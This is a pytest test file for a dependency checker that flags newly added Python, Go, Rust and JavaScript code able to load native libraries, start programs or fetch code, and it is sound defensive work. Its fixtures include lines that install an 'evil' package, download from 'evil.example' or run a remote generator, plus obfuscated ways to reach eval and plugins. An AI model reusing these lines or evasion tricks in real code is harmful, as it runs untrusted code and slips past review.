"""What comes with a language can bring a package, too, unless it is known to load, start and fetch nothing."""

import pytest

from tests.proof.checks.test_dependencies import read
from trued.proof.checks.source_imports import read_source

BASE = {
    "app.py": "import os\n",
    "web.py": "import urllib.request\n\n\ndef get(url):\n    return urllib.request.urlopen(url)\n",
    "branch.py": "import subprocess\n\n\ndef branch():\n    return subprocess.run(['git', 'branch'])\n",
    "tests/test_app.py": "import http.client\n\nimport app\n\nGET = http.client.HTTPConnection\n",
    "tiny.js": "exports.one = () => 1;\n",
}
BY_PYTHON = {
    "a native library": "import sqlite3\n\nx = sqlite3.connect(':memory:')\nx.load_extension('evil.so')\n",
    "a native library in parts": "import sqlite3\n\nx = sqlite3.connect('a')\n"
    "getattr(x, 'load_' + 'extension')('evil')\n",
    "a native library by a setting": "import sqlite3\n\nx = sqlite3.connect('a')\nx.setconfig(1005, True)\n",
    "a folder of packages": "import site\n\nsite.addsitedir('lib')\n",
    "a folder of packages by another name": "from site import addsitedir as more\n\nmore('lib')\n",
    "a file from elsewhere": "import urllib.request\n\nurllib.request.urlretrieve(place, 'pretty.py')\n",
    "a file from elsewhere by another name": "from urllib import request\n\nget = request.urlretrieve\n",
    "a function that only tests use": "import http.client\n\nGET = http.client.HTTPConnection\n",
    "a socket": "import socket\n\nx = socket.create_connection(('a.example', 80))\n",
    "a pickle": "import pickle\n\nx = pickle.loads(b'')\n",
    "code in a text": "x = compile('import evil', '', 'exec')\n",
    "code in a text, by types": "import types\n\nx = types.FunctionType(compile('import evil', '', 'exec'), {})()\n",
    "a text in a module that runs it": "import doctest\n\ndoctest.run_docstring_examples('>>> import evil', {})\n",
    "names in settings": "import logging.config\n\nlogging.config.dictConfig({})\n",
    "another module's private os": "import random\n\nrandom._os.system('pip install evil')\n",
    "another module's private sys": "from argparse import _sys\n\nx = _sys.modules\n",
    "a script that the server starts": "import http.server\n\nx = http.server.CGIHTTPRequestHandler\n",
    "a module that Python gained": "import a_module_of_another_version\n",
    "every object": "import gc\n\nx = gc.get_objects()\n",
}
ORDINARY = {
    "values": "import csv\nimport json\nimport math\nimport re\nfrom collections import Counter\n"
    "from dataclasses import dataclass\nfrom datetime import datetime\nfrom functools import partial\n"
    "from itertools import chain\nfrom pathlib import Path\nfrom typing import Any\n"
    "x = re.compile('a'), Counter('a')\n",
    "abstract collections": "from collections.abc import Mapping\nfrom concurrent import futures\n"
    "import concurrent.futures\nimport xml.etree.ElementTree as tree\n",
    "a command line": "import argparse\nimport logging\nfrom logging.handlers import RotatingFileHandler\n"
    "import sys\n\n"
    "log = logging.getLogger(__name__)\n\n\ndef main():\n    found = argparse.ArgumentParser()\n"
    "    return getattr(found, sys.argv[1])\n",
    "a database": "import sqlite3\n\nx = sqlite3.connect('a.db')\nx.row_factory = sqlite3.Row\n"
    "x.execute('SELECT 1').fetchall()\n",
    "a server": "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
    "from urllib.parse import parse_qs\n"
    "from http import HTTPStatus\nfrom urllib.error import URLError\n\n\n"
    "class Answers(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.send_response(HTTPStatus.OK)\n",
    "an event loop": "import asyncio\n\nasyncio.run(asyncio.sleep(1))\n",
    "a program that the base starts": "import subprocess\n\nsubprocess.run(['git', 'branch'], check=True)\n",
    "a function of the base's": "from urllib.request import urlopen\n\n\ndef more(url):\n"
    "    return urlopen(url).read()\n",
    "files and times": "import os\nimport shutil\nimport tempfile\nimport time\nimport zipfile\n\n"
    "x = os.path.join('a', 'b'), time.time(), shutil.copy, tempfile.mkdtemp()\n",
    "methods of its own": "class A:\n    def compile(self):\n        return self._os, self.site, self.select()\n",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_PYTHON)
async def test_a_module_of_python_that_may_load_start_or_fetch_is_unread(name: str) -> None:
    assert (await read({"more.py": BY_PYTHON[name]}, BASE)).startswith("unread more.py")


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", ORDINARY)
async def test_an_ordinary_module_of_python_is_read(name: str) -> None:
    assert await read({"more.py": ORDINARY[name]}, BASE) == "proven"


@pytest.mark.spec("DAY-9")
async def test_a_test_may_ask_its_own_machine() -> None:
    asks = "import urllib.request\n\n\ndef test_a(port):\n    urllib.request.urlretrieve(f'http://{}:{{port}}/a')\n"
    assert await read({"tests/test_more.py": asks.replace("{}", "127.0.0.1")}, BASE) == "proven"
    assert await read({"tests/test_more.py": asks.replace("{}", "localhost")}, BASE) == "proven"
    found = await read({"tests/test_more.py": asks.replace("{}", "evil.example")}, BASE)
    assert found.startswith("unread tests/test_more.py")


@pytest.mark.spec("DAY-9")
async def test_a_file_may_go_on_using_what_it_used() -> None:
    base = {"more.py": "import ctypes\n\nx = ctypes.CDLL('libm.so')\n"}
    assert await read({"more.py": f"{base['more.py']}\n\ny = 1\n"}, base) == "proven"
    assert await read({"more.py": f"{base['more.py']}\n\ny = ctypes.CDLL('evil.so')\n"}, base) == "unread more.py"


GO_BASE = {
    "go.mod": "module example.com/svc\n\ngo 1.21\n",
    "svc/one.go": "package svc\n\nfunc One() int { return 1 }\n",
    "svc/c.go": 'package svc\n\n// #include <math.h>\nimport "C"\n\nfunc Two() float64 { return float64(C.sqrt(4)) }\n',
    "svc/run.go": 'package svc\n\nimport "os/exec"\n\nfunc Log() { exec.Command("git", "log").Run() }\n',
    "main.rs": "fn main() {}\n",
}
HEAD_OF_GO = "package svc\n\n"
BY_GO = {
    "a library of the system": '// #cgo LDFLAGS: -lsodium\n// #include <sodium.h>\nimport "C"\n\n'
    "var x = C.sodium_init()\n",
    "a plugin": 'import "plugin"\n\nfunc Load() { plugin.Open("evil.so") }\n',
    "a plugin in a group": 'import (\n\t"fmt"\n\tp `plugin`\n)\n\nfunc Load() { fmt.Print(p.Open("evil.so")) }\n',
    "a plugin in another spelling": 'import "plu\\x67in"\n\nfunc Load() { plugin.Open("evil.so") }\n',
    "a plugin behind a comment": 'import /* " */ "plugin"\n\nfunc Load() { plugin.Open("evil.so") }\n',
    "a plugin after another import": 'import "fmt"; import "plugin"\n\n'
    'func Load() { fmt.Print(plugin.Open("evil.so")) }\n',
    "calls of the system": 'import "syscall"\n\nvar x = syscall.Exec\n',
    "memory": 'import "unsafe"\n\nvar x unsafe.Pointer\n',
    "a name of another package": 'import _ "unsafe"\n\n//go:linkname open plugin.open\nfunc open(name string)\n',
    "a generator": "//go:generate go run example.com/evil@latest\n\nfunc Two() int { return 2 }\n",
    "the toolchain": 'import "go/build"\n\nvar x = build.Import\n',
    "a program": 'import "os/exec"\n\nfunc Go() { exec.Command("pip", "install", "evil").Run() }\n',
    "a program without its package's name": 'import . "os/exec"\n\nvar x = Command("pip")\n',
}
ORDINARY_GO = {
    "values": 'import (\n\t"encoding/json"\n\t"errors"\n\t"fmt"\n\t"strings"\n\t"time"\n)\n\n'
    "var X = fmt.Sprint(json.Marshal, errors.New, strings.ToUpper, time.Now)\n",
    "a server": 'import (\n\t"context"\n\t"log/slog"\n\t"net/http"\n\t"os"\n\t"sync"\n)\n\n'
    "var X = http.NewServeMux()\nvar Y = []any{context.Background, slog.Info, os.Args, &sync.Mutex{}}\n",
    "its own package": 'import "example.com/svc/svc"\n\nvar X = svc.One()\n',
    "files in the program": 'import _ "embed"\n\n//go:embed page.html\nvar page string\n',
    "a build tag": '//go:build linux\n\nimport "os"\n\nvar X = os.Args\n',
    "what looks like one": 'import "fmt"\n\n// import "plugin" is not used.\n'
    'var X = fmt.Sprint("plugin", `import "C"`, "unsafe")\n',
    "a program that the base starts": 'import "os/exec"\n\nfunc Go() { exec.Command("git", "log").Run() }\n',
}
BY_RUST = {
    "a library of the system": '#[link(name = "evil")]\nextern "C" {\n    fn go();\n}\n',
    "memory": "fn main() { unsafe { go() } }\n",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_GO)
async def test_a_package_of_go_that_may_load_or_start_is_unread(name: str) -> None:
    assert await read({"svc/more.go": f"{HEAD_OF_GO}{BY_GO[name]}"}, GO_BASE) == "unread svc/more.go"


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", ORDINARY_GO)
async def test_an_ordinary_package_of_go_is_read(name: str) -> None:
    assert await read({"svc/more.go": f"{HEAD_OF_GO}{ORDINARY_GO[name]}"}, GO_BASE) == "proven"


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_RUST)
async def test_code_in_rust_that_leads_out_of_it_is_unread(name: str) -> None:
    assert await read({"main.rs": BY_RUST[name]}, GO_BASE) == "unread main.rs"


@pytest.mark.spec("DAY-9")
async def test_what_a_go_file_takes_from_c_is_compared() -> None:
    text = GO_BASE["svc/c.go"]
    assert await read({"svc/c.go": f"{text}\nfunc Three() int {{ return 3 }}\n"}, GO_BASE) == "proven"
    for more in (
        f"{text}\nvar x = C.dlopen(C.CString(name), 1)\n",
        text.replace("// #inc", "// #cgo LDFLAGS: -lx\n// #inc"),
    ):
        assert await read({"svc/c.go": more}, GO_BASE) == "unread svc/c.go"


BY_NODE = {
    "a function's maker by destructuring": "const { constructor: Made } = () => 1;\nMade('return 1')();\n",
    "a function's maker by its short name": "const { constructor } = () => 1;\nconstructor('return 1')();\n",
    "a function's maker as a value": "const made = (() => 1).constructor;\nmade('return 1')();\n",
    "a function's maker by a string": "const made = (() => 1)['constructor'];\nmade('return 1')();\n",
    "a function's maker by parts": "const made = (() => 1)['con' + \"structor\"];\nmade('return 1')();\n",
    "a function's maker by a key": "const key = 'constructor';\n(() => 1)[key]('return 1')();\n",
    "a function's maker by reflection": "Reflect.get(() => 1, 'constructor')('return 1')();\n",
    "a function's maker in a static method": "class A { static go() { return new this.constructor('x'); } }\n",
    "a name with escapes": "const { c\\u006fnstructor: Made } = () => 1;\n",
    "a string with escapes": "const made = (() => 1)['c\\x6fnstructor'];\n",
    "a string with needless escapes": "const made = (() => 1)['c\\onstructor'];\n",
    "between regular expressions": "const a = /\"/; (() => 1).constructor('return 1')(); const b = /\"/;\n",
    "after a condition": "if (x) /\"/.test('');(() => 1).constructor('return 1')(); /\"/;\n",
    "after a condition, on several lines": "if (x) /`/.test('');\n(() => 1).constructor('return 1')();\n/`/;\n",
    "Function as a value": "const F = Function;\nF('return 1')();\n",
    "Function by reflection": "Reflect.construct(Function, ['return 1'])();\n",
    "Function of the global object": "globalThis.Function('return 1')();\n",
    "eval under another name": "const { eval: go } = globalThis;\ngo('1');\n",
    "require under another name": "const { require: load } = module;\nload(name);\n",
    "an import in a text in parts": "const text = 'im' + 'port(\"evil\")';\n",
    "a native library": "process.dlopen(module, 'evil.node');\n",
    "a native library by destructuring": "import { dlopen } from 'node:process';\ndlopen(m, 'evil.node');\n",
    "a module by another name": "const { getBuiltinModule: get } = process;\nget(name);\n",
    "loaders": "import { register } from 'node:module';\nregister('./x.mjs');\n",
    "a database with libraries": "import { DatabaseSync } from 'node:sqlite';\n",
    "a module that Node gained": "import x from 'node:ffi';\n",
    "a module of Bun": "import { dlopen } from 'bun:ffi';\n",
}
ORDINARY_NODE = {
    "a class": "export class A extends B {\n  constructor(x) { super(x); this.name = this.constructor.name; }\n"
    "  copy() { return new this.constructor(this.x); }\n}\n",
    "kinds of objects": "export const same = (a, b) => a.constructor === b.constructor || a.constructor.name;\n",
    "a guard": "export const bad = (key) => key === '__proto__' || key === 'constructor';\n",
    "an error": "export class E extends Error {\n"
    "  constructor(x) { super(x); Error.captureStackTrace(this, this.constructor); }\n}\n",
    "replacements": "export const go = (a) => a.replace(/,([\\r\\n])/g, '$1').replace(/a/, \"b\");\n",
    "names of tests": "import test from 'node:test';\nimport assert from 'node:assert/strict';\n"
    "test('constructor', () => { assert.equal(1, 1); });\n",
    "functions": "export const is = (x) => x instanceof Function || Function.prototype.toString.call(x) === '';\n",
    "modules": "import fs from 'node:fs/promises';\nimport http from 'http';\nimport path from 'node:path';\n"
    "import { setTimeout } from 'timers/promises';\nimport { promisify } from 'util';\n"
    "import process from 'node:process';\n"
    "export const where = path.join(process.cwd(), 'a');\n",
    "expressions": "export const found = /[\"'`]\\w+\\u00e9/.test('a') || 1 / 2;\n// the constructor\n",
    "texts": "export const text = 'an ' + 'eval' + \"uation\" + `of ${found}/a`;\n",
    "settings": "export const rules = { require: 1, eval: true, 'no-eval': 'error' };\n",
    "numbers": "export const half = (a) => (a + 1) / 2 + 'px';\n",
}


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", BY_NODE)
async def test_what_may_run_a_text_or_load_in_a_script_is_unread(name: str) -> None:
    assert (await read({"more.js": BY_NODE[name]}, BASE)).startswith("unread more.js")


@pytest.mark.spec("DAY-9", "LAW-11")
@pytest.mark.parametrize("name", ORDINARY_NODE)
async def test_an_ordinary_script_is_read(name: str) -> None:
    assert await read({"more.js": ORDINARY_NODE[name]}, BASE) == "proven"


@pytest.mark.spec("DAY-9")
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("bundle.js", "f(x)/2;" + "g(x)/y+'a'+\"b\"+" * 20_000),
        ("bundle.js", "a = b(c) /2" + " + 'd'" * 40_000),
        ("big.go", "package a\n\nimport (\n\t" + "a" * 40_000 + "\n)\n"),
    ],
    ids=["minified", "without an end", "a Go name"],
)
def test_a_long_line_is_read_in_time(path: str, text: str) -> None:
    assert read_source(path, text).parsed
